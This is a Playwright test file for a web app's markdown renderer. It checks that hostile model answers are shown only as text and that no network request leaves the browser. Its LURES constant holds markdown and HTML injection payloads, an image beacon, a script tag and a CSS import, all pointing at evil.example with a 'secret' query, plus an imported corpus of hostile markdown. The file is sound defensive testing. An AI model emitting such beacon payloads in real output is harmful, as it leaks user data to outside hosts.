"""Story: whatever a model writes, a page only shows it, and no request leaves."""

import pytest
from playwright.sync_api import expect

from tests.support import openai_server as wire
from tests.support.browser import Chromium
from tests.support.hostile_markdown import ONLY_TEXT
from tests.support.openai_server import MODEL, OpenAIServer
from tests.support.person import Person, a_person

HARMLESS = {
    "a", "blockquote", "br", "code", "div", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p",
    "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
LURES = """
![pixel](http://evil.example/pixel.png?q=secret) <img src="http://evil.example/x.png">

[a link](http://evil.example/?q=secret) and http://evil.example/plain [1]

<script>document.title = "EVIL"</script><style>@import "http://evil.example/x.css";</style>
"""


@pytest.fixture
def modern(browser: Chromium):
    with OpenAIServer() as server:
        given = {
            "ALVO_REASONER_KIND": "openai",
            "ALVO_REASONER_BASE_URL": server.base_url,
            "ALVO_REASONER_MODEL": MODEL,
            "ALVO_REASONER_STREAM": "false",
        }
        with a_person(browser, **given) as made:
            yield made, server


def test_an_answer_full_of_lures_is_shown_and_nothing_leaves(
    modern: tuple[Person, OpenAIServer],
) -> None:
    person, server = modern
    server.script(wire.decision(type="answer", enough=True, answer=LURES, sources=[]))
    with person.tab() as tab:
        tab.ask("What do you say?")
        answer = tab.page.locator(".answer")
        expect(answer).to_contain_text("pixel (http://evil.example/pixel.png?q=secret)")
        expect(answer).to_contain_text("a link (evil.example)")
        tab.page.hover(".answer a[href^=http]")
        assert tab.page.locator(".answer img, .answer style, .answer script").count() == 0
        assert "EVIL" not in tab.page.title()
        assert not [url for url in tab.requests if "evil" in url]


def test_each_hostile_text_stays_text_in_a_real_browser(person: Person) -> None:
    with person.tab() as tab:
        tab.page.evaluate("window.dangers = []; window.alert = (what) => dangers.push(what); null")
        found = tab.page.evaluate(
            """async (texts) => {
              const base = document.querySelector('script[type=module]').src;
              const { showMarkdown } = await import(new URL("./markdown.js", base));
              const places = texts.map(() => document.createElement("div"));
              document.body.append(...places);
              for (const [n, place] of places.entries()) await showMarkdown(place, texts[n]);
              return places.map((place) => [...place.querySelectorAll("*")].map((element) =>
                [element.localName, element.getAttributeNames()]));
            }""",
            list(ONLY_TEXT),
        )
        for text, elements in zip(ONLY_TEXT, found, strict=True):
            for name, attributes in elements:
                assert name in HARMLESS, (text, name)
                assert not [
                    a
                    for a in attributes
                    if a.startswith("on") or a in ("id", "name", "style", "src")
                ]
        for focusable in tab.page.locator("body > div a, body > div [tabindex]").all():
            focusable.focus()
        tab.look()
        assert tab.page.evaluate("dangers") == []
